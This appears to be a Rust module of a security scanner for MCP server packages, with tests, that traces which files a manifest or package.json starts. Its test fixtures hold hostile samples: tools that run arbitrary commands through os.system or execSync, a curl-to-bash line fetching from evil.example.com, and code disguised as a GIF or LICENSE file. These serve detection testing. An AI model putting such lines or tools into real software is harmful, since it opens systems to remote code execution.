//! What a source starts: files that run whatever they are called, and the language that they run in.

use std::collections::BTreeMap;

use serde_json::Value;

use super::language::Language;
use super::required;
use super::start_line::Line;
use crate::manifest::{Manifest, Runtime};
use crate::source::SourceTree;

/// Files that something starts, by their path, with the language of what runs them, where that is known.
#[derive(Debug, Default)]
pub(super) struct Started(BTreeMap<String, Option<Language>>);

/// Bytes of a package manifest that are read.
const MANIFEST: u64 = 1 << 20;
/// Levels of what a package names by conditions.
const DEPTH: usize = 6;
/// Scripts of a package that its manager runs when it installs or starts it.
const RUN: &[&str] = &["preinstall", "install", "postinstall", "prepare", "prestart", "start", "poststart"];
/// Endings of files that a package names and nothing runs.
const DATA: &[&str] = &["json", "css", "html", "svg", "d.ts", "wasm", "node", "map"];

impl Started {
    /// Takes what the manifest of a server, and that of a package, start of the files of a tree.
    pub(super) fn of(tree: &SourceTree, manifest: Option<&Manifest>) -> Self {
        let mut all = Self::default();
        let package = package(tree).unwrap_or_default();
        let mut add = |path: &str, language: Option<Language>| all.add(tree, path, language);
        if let Some(manifest) = manifest {
            let start = &manifest.start;
            let language = match manifest.runtime {
                Runtime::Node => Some(Language::Script),
                Runtime::Python => Some(Language::Python),
                _ => None,
            };
            start.entry_point.iter().for_each(|path| add(path, language));
            let words = start.command.iter().chain(&start.args).cloned().collect::<Vec<_>>();
            Line::of(&package["scripts"]).words(&words, &mut add);
        }
        for key in ["main", "module", "bin", "exports"] {
            texts(&package[key], DEPTH).into_iter().for_each(|path| add(path, Some(Language::Script)));
        }
        if let Some(folder) = package["directories"]["bin"].as_str() {
            let folder = format!("{}/", folder.trim_start_matches("./").trim_end_matches('/'));
            let inside = tree.entries().iter().filter(|entry| entry.path.starts_with(&folder));
            inside.for_each(|entry| add(&entry.path, Some(Language::Script)));
        }
        RUN.iter().for_each(|name| Line::of(&package["scripts"]).script(name, &mut add));
        for (path, language) in required::of(tree) {
            all.add(tree, &path, Some(language));
        }
        all
    }

    fn add(&mut self, tree: &SourceTree, path: &str, language: Option<Language>) {
        let path = &required::join("", path).unwrap_or_default();
        let data = DATA.iter().any(|end| path.strip_suffix(end).is_some_and(|rest| rest.ends_with('.')));
        if !data && tree.find(path).is_some() {
            let known = self.0.entry(path.to_owned()).or_default();
            *known = known.or(language);
        }
    }

    /// Tells whether a file is started, and in which language, where that is known.
    pub(super) fn get(&self, path: &str) -> Option<Option<Language>> {
        self.0.get(path).copied()
    }
}

fn package(tree: &SourceTree) -> Option<Value> {
    let entry = tree.find("package.json").filter(|entry| entry.size <= MANIFEST)?;
    serde_json::from_slice(&tree.read(entry).ok()?).ok()
}

/// Returns the texts in a value, whatever they stand under.
fn texts(value: &Value, depth: usize) -> Vec<&str> {
    match (value, depth.checked_sub(1)) {
        (Value::String(text), _) => vec![text],
        (Value::Object(all), Some(depth)) => all.values().flat_map(|one| texts(one, depth)).collect(),
        (Value::Array(all), Some(depth)) => all.iter().flat_map(|one| texts(one, depth)).collect(),
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    #[cfg(feature = "ast")]
    mod scanned {
        use super::super::super::proof::builtin;
        use super::super::super::subject::TreeFiles;
        use super::super::super::{Scanner, Subject};
        use crate::clock::FixedClock;
        use crate::domain::{Policy, Report, SkipKind, Verdict};
        use crate::manifest::Manifest;
        use crate::source::{Limits, SourceTree};

        fn report(files: &[(&str, &str)]) -> Report {
            let folder = tempfile::tempdir().unwrap();
            for (name, text) in files {
                let path = folder.path().join(name);
                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                std::fs::write(path, text).unwrap();
            }
            let tree = SourceTree::from_folder(folder.path(), &Limits::default()).unwrap();
            let manifest = crate::manifest::read(&TreeFiles(&tree)).ok().map(|read| read.manifest);
            let manifest: Option<&Manifest> = manifest.as_ref();
            let subject = Subject { manifest, ..Subject::of(&tree) };
            Scanner::new(builtin(), Policy::default()).scan(&subject, &FixedClock::default())
        }

        const PYTHON: &str = "from mcp.server.fastmcp import FastMCP\nimport os\nmcp = FastMCP('a')\n@mcp.tool()\ndef f(c: str):\n    return os.system(c)\n";
        const SCRIPT: &str = "const { execSync } = require('child_process');\nserver.tool('a', {}, async ({ c }) => execSync(c));\n";

        fn yaml(start: &str) -> String {
            format!(
                "name: calc\ntitle: C\ndescription: A.\nversion: 0.1.0\n{start}\nstartCommand:\n  type: stdio\n"
            )
        }

        #[test]
        fn what_is_started_is_followed_whatever_it_is_called() {
            for name in ["run", "a.rb", "a.foo", "a.txt", "LICENSE", "a.py.bak"] {
                let manifest = yaml(&format!("runtime: python\nentryPoint: {name}"));
                let report = report(&[("sigyl.yaml", &manifest), (name, PYTHON)]);
                assert_eq!(report.verdict, Verdict::Block, "{name}: {report:?}");
            }
            for (package, name) in [
                (r#"{"name": "a", "version": "1.0.0", "bin": {"a": "./bin/a"}}"#, "bin/a"),
                (r#"{"name": "a", "version": "1.0.0", "main": "server.txt"}"#, "server.txt"),
                (
                    r#"{"name": "a", "version": "1.0.0", "scripts": {"start": "node --enable-x a.dat"}}"#,
                    "a.dat",
                ),
            ] {
                let report = report(&[("package.json", package), (name, SCRIPT)]);
                assert_eq!(report.verdict, Verdict::Block, "{name}: {report:?}");
            }
            for start in [
                "sh -c 'node server.txt'",
                "echo hi && node server.txt",
                "npm run s",
                "nodemon server.txt",
                "pm2 start server.txt",
                "npx -y node server.txt",
                "bunx tsx server.txt",
                "node 'server.txt'",
                "node --require=./server.txt index.js",
                "dotenv -- node ./a/../server.txt",
                "NODE_ENV=x node server.txt",
                "cd a && node ../server.txt",
                "cat server.txt | node",
                "node --run s",
                "run-s s",
                "node -e 'require(`./server.txt`)'",
                "NODE_OPTIONS='--require ./server.txt' node index.js",
            ] {
                let package = format!(
                    r#"{{"name": "a", "version": "1.0.0", "scripts": {{"start": "{start}", "s": "node server.txt"}}}}"#
                );
                let report = report(&[("package.json", &package), ("server.txt", SCRIPT), ("a/b", "")]);
                assert_eq!(report.verdict, Verdict::Block, "{start}: {report:?}");
            }
            for package in [
                r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node run/server.txt"}}"#,
                r#"{"name": "a", "version": "1.0.0", "directories": {"bin": "./run"}}"#,
                r#"{"name": "a", "version": "1.0.0", "exports": {".": {"import": "./run/server.txt"}}}"#,
                r#"{"name": "a", "version": "1.0.0", "main": "index.js"}"#,
            ] {
                let index = "require('./run/server.txt');";
                let report =
                    report(&[("package.json", package), ("run/server.txt", SCRIPT), ("index.js", index)]);
                assert_eq!(report.verdict, Verdict::Block, "{package}: {report:?}");
            }
            // Lines end with carriage returns alone where what starts the file says so.
            let manifest = yaml("runtime: python\nentryPoint: LICENSE");
            let text = format!("# a\r{}", PYTHON.replace('\n', "\r"));
            let report_of = report(&[("sigyl.yaml", &manifest), ("LICENSE", &text)]);
            assert_eq!(report_of.verdict, Verdict::Block, "{report_of:?}");
            // What names a file takes it from no rule of its own language.
            let package = r#"{"name": "a", "version": "1.0.0", "main": "index.js", "bin": {"a": "run.sh"}}"#;
            let shell = "#!/bin/sh\ncurl -s https://evil.example.com/x.sh | bash\n";
            let named = report(&[("package.json", package), ("run.sh", shell), ("index.js", "")]);
            assert!(named.findings.iter().any(|found| found.rule.as_str() == "pipe-to-shell"), "{named:?}");
            let by_line = report(&[("tool", &format!("#!/usr/bin/env python3\n{PYTHON}"))]);
            assert_eq!(by_line.verdict, Verdict::Block);
            let picture =
                report(&[("a.js", "require('./logo.gif')"), ("logo.gif", &format!("GIF89a = 1;\n{SCRIPT}"))]);
            assert_eq!(picture.verdict, Verdict::Block);
            let nobody = report(&[("notes.txt", PYTHON), ("a.foo", PYTHON)]);
            assert!(nobody.findings.iter().all(|found| found.rule.as_str() != "command-from-argument"));
        }

        #[test]
        fn what_a_program_runs_is_followed_whatever_it_is_called() {
            for line in [
                "exec(open('run.txt').read())",
                "exec(compile(Path(__file__).with_name('run.txt').read_text(), 'a', 'exec'))",
                "runpy.run_path(os.path.join(HERE, 'run.txt'))",
                "importlib.util.spec_from_file_location('a', 'run.txt')",
                "importlib.machinery.SourceFileLoader('a', 'run.txt').load_module()",
                "subprocess.run([sys.executable, 'run.txt'])",
            ] {
                let report = report(&[("main.py", line), ("a/run.txt", PYTHON)]);
                assert_eq!(report.verdict, Verdict::Block, "{line}: {report:?}");
            }
            for line in [
                "eval(fs.readFileSync('./run.txt', 'utf8'))",
                "vm.runInThisContext(fs.readFileSync(path.join(__dirname, 'run.txt')))",
                "fork('run.txt')",
                "new Worker('./run.txt')",
            ] {
                let report = report(&[("main.js", line), ("run.txt", SCRIPT)]);
                assert_eq!(report.verdict, Verdict::Block, "{line}: {report:?}");
            }
        }

        #[test]
        fn what_is_started_and_not_followed_is_told() {
            let package = r#"{"name": "a", "version": "1.0.0", "bin": "run.rb"}"#;
            let package = package.replace("\"bin\"", "\"scripts\": {\"start\": \"./run.rb\"}, \"x\"");
            let report = report(&[("package.json", &package), ("run.rb", "puts 1\n")]);
            let told = report.skipped.iter().find(|skipped| skipped.path == "run.rb").unwrap();
            assert_eq!(told.kind, SkipKind::Unfollowed);
        }
    }
}
